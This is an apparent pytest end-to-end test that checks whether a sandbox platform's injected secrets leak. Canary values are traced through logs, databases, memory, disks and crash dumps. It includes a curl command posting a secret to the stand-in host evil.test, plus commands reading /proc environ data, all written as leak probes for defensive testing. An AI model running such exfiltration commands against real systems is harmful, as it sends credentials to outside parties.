"""Canaries go through every path that a secret can take, and are found where they were sent and nowhere else."""

from __future__ import annotations

import base64
import contextlib
import http.client
import json
import os
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from e2b import CommandExitException, Sandbox, Secret

from corekit.needles import MARKER
from sandboxes.node.config import NodeConfig
from tests.audit import receivers
from tests.broker import vendor as vendors
from tests.live import ROOT, running_stack
from tests.security.canaries import Search, cache_of, canary, dump_of

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.audit.receivers import Receiver
    from tests.broker.vendor import Peer, Vendor
    from tests.broker.vendor import Request as Call
    from tests.internet.sites import Request
    from tests.internet.world import Internet
    from tests.live import Stack

pytestmark = pytest.mark.stack

API, EVIL = "api.allowed.test", "evil.test"
SCOPES = (
    *("sandboxes:read", "sandboxes:write", "sandboxes:use", "networks:read", "networks:write", "templates:read"),
    *("secrets:read", "secrets:write", "tokens:read", "tokens:write", "services:read", "services:write"),
    *("audit:read", "risk:read", "webhooks:read", "webhooks:write"),
)
# How each came in: by the SDK for a rule, by REST for a placeholder, by the operator's shell for a scoped token.
RULE, PLACEHOLDER, TOKEN, REFUSED = (canary(kind) for kind in ("rule", "placeholder", "token", "refused"))
OLD = canary("old")
MARK = canary("mark")
"""Not secret: it is written inside."""
BROKER = "http://broker.gatehouse.internal/openai/v1"
SERVICES = ("web", "worker", "node", "gateway", "egress")


@dataclass
class Walk:
    """The way that the canaries went: on which system, in which sandboxes, and all that anybody was answered."""

    stack: Stack
    began: float
    boxes: list[Sandbox] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    receiver: Receiver | None = None
    sent: dict[str, list[str]] = field(default_factory=dict)

    def rest(self, method: str, path: str, body: Any = None, *, key: str = "") -> tuple[int, bytes]:
        """Call any path with any body; what is answered, headers too, is remembered."""
        data = body if isinstance(body, bytes) else None if body is None else json.dumps(body).encode()
        headers = {"X-API-KEY": key or self.stack.key, "Content-Type": "application/json"}
        request = urllib.request.Request(f"{self.stack.url}{path}", data=data, method=method, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:
                status, found, content = answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as error:
            status, found, content = error.code, error.headers, error.read()
        self.said.append(f"{found}{content.decode('utf-8', 'replace')}")
        return status, content

    def run(self, box: Sandbox, command: str) -> str:
        """Run a command inside; what it says is remembered."""
        try:
            done: Any = box.commands.run(command, timeout=60)
        except CommandExitException as error:
            done = error
        self.said.append(f"{done.stdout}\n{done.stderr}")
        return str(done.stdout)


def reflecting(request: Request) -> tuple[int, dict[str, str], bytes]:
    """Answer with what came, in the header and the body, as it is and in other words."""
    came = request.headers.get("authorization", "")
    value = came.removeprefix("Bearer ")
    words = [value, quote(value), json.dumps(value), base64.b64encode(value.encode()).decode(), value.encode().hex()]
    if request.target.startswith("/refuse"):
        return 401, {}, f"Incorrect API key provided: {value}".encode()
    return 200, {"X-Came": came, "Set-Cookie": f"k={quote(value)}"}, "\n".join(words).encode()


async def reflecting_vendor(request: Call, peer: Peer) -> None:
    """Answer as a vendor does that quotes the key; refuse one call in other words."""
    value = request.headers.get("authorization", "").removeprefix("Bearer ")
    if b"refuse" in request.body:
        await peer.answer({"error": {"message": f"Incorrect API key provided: {value}"}}, 401)
        return
    await peer.chunked(f"data: {value}\n\n".encode(), f"data: {value.encode().hex()}\n\n".encode())


@contextlib.contextmanager
def authorities(*pems: str) -> Iterator[str]:
    """Keep authorities where other users can read them."""
    path = Path(f"/var/tmp/canary-authorities-{os.getpid()}.pem")
    path.write_text("\n".join(pems), encoding="ascii")
    path.chmod(0o644)
    try:
        yield str(path)
    finally:
        path.unlink()


@pytest.fixture(scope="module")
def walk(one_internet: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Walk]:
    """Send every canary along all of its ways once."""
    one_internet.reset()
    one_internet.sites.sites[API] = reflecting
    with contextlib.ExitStack() as things:
        vendor = things.enter_context(vendors.running(tmp_path_factory.mktemp("vendor")))
        vendor.behave = reflecting_vendor
        receiver = things.enter_context(receivers.running(receivers.Receiver()))
        trusted = things.enter_context(authorities(one_internet.authority.pem, vendor.authority.pem))
        settings: Any = one_internet.settings() | {
            "GATEHOUSE_EGRESS_CA_FILE": trusted,
            "GATEHOUSE_BROKER_CA_FILE": trusted,
            "GATEHOUSE_BROKER_NETWORKS": "127.0.0.0/8",
            "GATEHOUSE_WEBHOOK_NETWORKS": "127.0.0.0/8",
            "GATEHOUSE_LOG_LEVEL": "DEBUG",
        }
        began = time.time() - 1
        stack = things.enter_context(running_stack(**settings))
        made = Walk(stack, began, receiver=receiver)
        prepare(made, vendor)
        write_secrets(made)
        be_refused(made)
        send_by_rule(made)
        send_by_placeholder(made)
        send_by_token(made)
        one_internet.sites.sites.clear()
        made.sent = {
            API: [request.headers.get("authorization", "") for request in one_internet.sites.requests()],
            "vendor": [call.headers.get("authorization", "") for call in vendor.requests],
        }
        leave_marks(made)
        crash(made)
        export(made, tmp_path_factory.mktemp("exports"))
        build(made)
        yield made


def prepare(walk: Walk, vendor: Vendor) -> None:
    stack = walk.stack
    stack.manage("networkpolicy", "ceiling", "default", "--public-internet")
    scopes = [f"--scope={scope}" for scope in SCOPES]
    stack.key = stack.manage("apikey", "create", "--tenant", "default", "--name", "all", *scopes).stdout.strip()
    assert walk.receiver is not None
    assert walk.rest("POST", "/api/v1/webhooks", {"url": walk.receiver.url})[0] == 201
    code = (
        "from tenants.tokenmodels import BrokerService as S;"
        f"S.objects.filter(name='openai', tenant=None).update(base_url='{vendor.base_url}', private=True)"
    )
    stack.manage("shell", "-c", code)


def write_secrets(walk: Walk) -> None:
    stack = walk.stack
    Secret.create("rule-key", OLD, api_key=stack.key, api_url=stack.url)
    Secret.update("rule-key", RULE, api_key=stack.key, api_url=stack.url)
    assert walk.rest("POST", "/api/v1/secrets", {"name": "placeholder-key", "value": PLACEHOLDER})[0] == 201
    command = [sys.executable, str(ROOT / "manage.py"), "secrets", "set", "default", "token-key"]
    done = subprocess.run(
        command, env=stack.environment, input=f"{TOKEN}\n", capture_output=True, text=True, cwd=ROOT, check=True
    )
    walk.said.append(done.stdout + done.stderr)
    for path in ("/secrets", "/api/v1/secrets"):
        assert walk.rest("GET", path)[0] == 200


def be_refused(walk: Walk) -> None:
    """Send a value along with every mistake that a caller can make."""
    body = {"name": "refused-key", "value": REFUSED}
    mistakes: list[tuple[str, str, Any]] = [
        ("POST", "/api/v1/secrets", {**body, "name": "rule-key"}),
        ("POST", "/api/v1/secrets", {**body, "name": REFUSED}),
        ("POST", "/api/v1/secrets", {**body, "value": f"{REFUSED}\r\nX: y"}),
        ("POST", "/api/v1/secrets", {**body, "value": [REFUSED]}),
        ("POST", "/api/v1/secrets", {**body, "unknown": REFUSED}),
        ("POST", "/api/v1/secrets", {**body, "vault": REFUSED}),
        ("POST", "/api/v1/secrets", json.dumps(body).encode()[:-1]),
        ("POST", "/api/v1/secrets", json.dumps(body).encode("utf-16")),
        ("POST", "/api/v1/secrets/no-such/versions", {"value": REFUSED}),
        ("POST", "/secrets", {**body, "name": "rule-key"}),
        ("POST", "/secrets", {**body, "metadata": REFUSED}),
        ("POST", "/secrets/no-such", {"value": REFUSED}),
        ("PATCH", "/secrets", body),
        ("POST", "/no-such-path", body),
        ("POST", "/api/v1/sandboxes", {"secrets": {"A": {"secret": "rule-key", "hosts": [API], "value": REFUSED}}}),
    ]
    for method, path, sent in mistakes:
        status, _ = walk.rest(method, path, sent)
        assert 400 <= status < 500, (method, path, status)
    assert walk.rest("POST", "/api/v1/secrets", body, key="e2b_" + "0" * 40)[0] == 401


def setting(value: str) -> Any:
    return [{"transform": {"headers": {"Authorization": f"Bearer {value}"}}}]


def send_by_rule(walk: Walk) -> None:
    for template in ("base", "base-process"):
        rules = {API: setting(Secret.fill("rule-key")), EVIL: setting(Secret.fill("no-such"))}
        box = Sandbox.create(template, timeout=600, network={"rules": rules}, **walk.stack.sdk)
        walk.boxes.append(box)
        walk.run(box, f"curl -sSv --max-time 20 https://{API}/reflect")
        walk.run(box, f"curl -sSv --max-time 20 https://{API}/refuse")
        walk.run(box, f"curl -sSv --max-time 20 https://{EVIL}/unknown")


def send_by_placeholder(walk: Walk) -> None:
    body = {"secrets": {"API_KEY": {"secret": "placeholder-key", "hosts": [API]}}}
    for template in ("base", "base-process"):
        made = json.loads(walk.rest("POST", "/api/v1/sandboxes", body | {"template": template, "timeout": 600})[1])
        box = Sandbox.connect(made["id"], timeout=600, **walk.stack.sdk)
        walk.boxes.append(box)
        walk.run(box, f'curl -sSv --max-time 20 -H "Authorization: Bearer $API_KEY" https://{API}/reflect')
        walk.run(box, f'curl -sSv --max-time 20 -u "user:$API_KEY" https://{API}/reflect')
        walk.run(box, f'curl -sSv --max-time 20 -d "$API_KEY" http://{EVIL}/elsewhere')


def send_by_token(walk: Walk) -> None:
    asked = {"secret": "token-key", "allowed_apis": ["openai/chat/completions"], "max_uses": 5}
    for box in walk.boxes[:2]:
        status, answer = walk.rest("POST", f"/api/v1/sandboxes/{box.sandbox_id}/tokens", asked)
        assert status == 201, answer
        text = json.loads(answer)["token"]
        for said in ("reflect", "refuse"):
            data = f'{{"model": "gpt-4o", "stream": true, "messages": [{{"role": "user", "content": "{said}"}}]}}'
            head = f"-H 'Authorization: Bearer {text}' -H 'Content-Type: application/json'"
            walk.run(box, f"curl -sSv --max-time 20 {head} -d '{data}' {BROKER}/chat/completions")


def leave_marks(walk: Walk) -> None:
    for box in walk.boxes:
        box.files.write("mark.txt", MARK)
        box.commands.run("sync ~/mark.txt ~")


def crash(walk: Walk) -> None:
    """Let the processes that know values die the way that leaves a core, and come back."""
    for service in ("web", "egress", "gateway"):
        os.kill(walk.stack.pid_of(service), signal.SIGSEGV)
        time.sleep(0.2)
        walk.stack.wait_until_answers()
    until(lambda: walk.rest("GET", "/api/v1/me")[0] == 200)


def export(walk: Walk, folder: Path) -> None:
    for kind in ("jsonl", "csv"):
        walk.stack.manage("audit_export", str(folder / f"all.{kind}"), "--format", kind)
        walk.said.append((folder / f"all.{kind}").read_text())
        walk.rest("GET", f"/api/v1/audit-events/export?format={kind}")
    path: str | None = "/api/v1/audit-events?limit=100"
    while path:
        status, content = walk.rest("GET", path)
        assert status == 200
        following = json.loads(content).get("next")
        path = f"/api/v1/audit-events?limit=100&cursor={quote(following)}" if following else None
    for command in (("secrets", "list", "default"), ("vault", "status"), ("doctor",), ("identity", "list")):
        done = walk.stack.manage(*command, check=False)
        walk.said.append(done.stdout + done.stderr)
    for page in ("/api/schema", "/health"):
        walk.rest("GET", page)


def build(walk: Walk) -> None:
    command = [sys.executable, "-m", "sandboxes.node.builds", "base", "--home", str(walk.stack.home)]
    path = f"{ROOT}:{ROOT / 'platform'}"
    done = subprocess.run(
        command, env=walk.stack.environment | {"PYTHONPATH": path}, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    walk.said.append(done.stdout + done.stderr)


def until(condition: Callable[[], Any], seconds: float = 30) -> Any:
    """Return what a condition comes to once it holds."""
    end = time.monotonic() + seconds
    while True:
        with contextlib.suppress(OSError, http.client.HTTPException):
            if value := condition():
                return value
        assert time.monotonic() < end
        time.sleep(0.1)


@pytest.fixture(scope="module")
def search() -> Search:
    """The search for all of them."""
    return Search([RULE, PLACEHOLDER, TOKEN, REFUSED, OLD])


# --- that they were sent, and that the search finds


def test_every_canary_got_where_it_belongs(walk: Walk) -> None:
    by_rule = [came for came in walk.sent[API] if came == f"Bearer {RULE}"]
    swapped = [came for came in walk.sent[API] if came == f"Bearer {PLACEHOLDER}"]
    basic = base64.b64encode(f"user:{PLACEHOLDER}".encode()).decode()

    assert (len(by_rule), len(swapped)) == (4, 2)
    assert walk.sent[API].count(f"Basic {basic}") == 2
    assert walk.sent["vendor"] == [f"Bearer {TOKEN}"] * 4


def test_the_search_finds_each_encoding(search: Search, tmp_path: Path) -> None:
    value = RULE.encode()
    encoded = [
        value,
        quote(RULE).encode(),
        json.dumps(RULE).encode(),
        base64.b64encode(b"x" + value),
        base64.b64encode(b"xy" + value),
        base64.b64encode(b"user:" + value),
        value.hex().encode(),
    ]
    for number, one in enumerate(encoded):
        assert one in search, number
        (tmp_path / f"{number}").write_bytes(b"-" * ((8 << 20) - 20) + one)
    assert len(search.files(tmp_path)) == len(encoded)
    child = subprocess.Popen(["sleep", "60"], env={"LEAKED": RULE})
    try:
        assert f"{child.pid}/environ" in search.processes()
        assert search.memory(child.pid)
    finally:
        child.kill()
        child.wait()


# --- that they are nowhere else


def test_no_answer_held_one(walk: Walk, search: Search) -> None:
    assert len(walk.said) > 50
    assert [text[:2000] for text in walk.said if text in search] == []
    # What a host sent back was there, and was cut out.
    assert any(MARKER.decode() in text for text in walk.said)


def test_no_webhook_told_one(walk: Walk, search: Search) -> None:
    receiver = walk.receiver
    assert receiver is not None
    until(lambda: any(b"secret.injected" in message.body for message in receiver.messages), 60)

    assert [one.body for one in receiver.messages if one.body in search or str(one.headers) in search] == []


def test_no_file_of_the_installation_holds_one(walk: Walk, search: Search) -> None:
    assert "DEBUG" in walk.stack.environment["GATEHOUSE_LOG_LEVEL"]
    assert walk.stack.log.stat().st_size > 10_000

    # That a file which was written inside is found on its disk says that disks are searched.
    marked = Search([MARK]).files(walk.stack.home)
    assert len([path for path in marked if path.endswith("/disk.img")]) >= len(walk.boxes)

    # Logs, spools, disks of sandboxes, the embedded database and queue as they lie there, what is in memory only.
    folders = [walk.stack.home, *mounts_below(walk.stack.home)]
    assert [path for folder in folders for path in search.files(folder)] == []


def mounts_below(folder: Path) -> list[Path]:
    lines = Path("/proc/self/mountinfo").read_text().splitlines()
    return [Path(line.split()[4]) for line in lines if line.split()[4].startswith(f"{folder}/")]


def test_no_template_holds_one(walk: Walk, search: Search) -> None:
    assert search.files(ROOT / "var" / "templates", since=walk.began) == []


def test_no_row_of_the_database_holds_one(walk: Walk, search: Search) -> None:
    dump = dump_of(walk.stack)

    assert b"rule-key" in dump
    assert dump not in search


def test_nothing_in_redis_holds_one(walk: Walk, search: Search) -> None:
    assert cache_of(walk.stack) not in search


def test_no_environment_or_command_line_of_the_host_holds_one(walk: Walk, search: Search) -> None:
    assert search.processes() == []


def test_no_process_of_a_sandbox_holds_one(walk: Walk, search: Search) -> None:
    pids = inside(walk.stack)

    assert len(pids) >= len(walk.boxes)
    assert [pid for pid in pids if search.memory(pid)] == []


def inside(stack: Stack) -> list[int]:
    """Return the processes of an installation's sandboxes as the host numbers them."""
    group = f"/{NodeConfig.from_env(stack.environment).cgroup_name}/"
    found = []
    for path in Path("/proc").glob("[0-9]*/cgroup"):
        with contextlib.suppress(OSError):
            if group in path.read_text():
                found.append(int(path.parent.name))
    return found


def test_nothing_inside_a_sandbox_holds_one(walk: Walk, search: Search) -> None:
    places = "/tmp /home /root /run /var /etc /opt/gatehouse /dev/shm"
    for box in walk.boxes:
        environments = box.commands.run("cat /proc/*/environ /proc/*/cmdline 2>/dev/null || true").stdout
        files = box.commands.run(f"cat $(find {places} -xdev -type f 2>/dev/null) 2>/dev/null || true", timeout=120)

        assert environments not in search
        assert files.stdout not in search


@pytest.mark.parametrize("service", ["web", "egress"])
def test_what_knows_values_leaves_no_core(walk: Walk, service: str) -> None:
    pid = walk.stack.pid_of(service)

    limits = Path(f"/proc/{pid}/limits").read_text()
    assert [line.split()[-3:-1] for line in limits.splitlines() if "core file" in line] == [["0", "0"]]
    # Not even another process of the same user may look into it: what is the kernel's to give is root's alone.
    assert Path(f"/proc/{pid}/environ").stat().st_uid == 0


def test_a_crash_left_no_core(walk: Walk, search: Search) -> None:
    for folder in (Path("/"), ROOT, walk.stack.home, walk.stack.home / "run", Path("/var/tmp"), Path("/tmp")):
        cores = [path for path in folder.glob("core*") if path.is_file() and path.stat().st_ctime >= walk.began]
        assert cores == []


def test_refusals_were_recorded_without_one(walk: Walk, search: Search) -> None:
    codes = {"secret.inject_refused", "secret.exfil_attempt", "secret.reflected", "secret.injected", "token.redeemed"}
    found = {
        one["code"]
        for code in codes
        for one in json.loads(walk.rest("GET", f"/api/v1/audit-events?code={code}&limit=5")[1])["items"]
    }
    assert found == codes
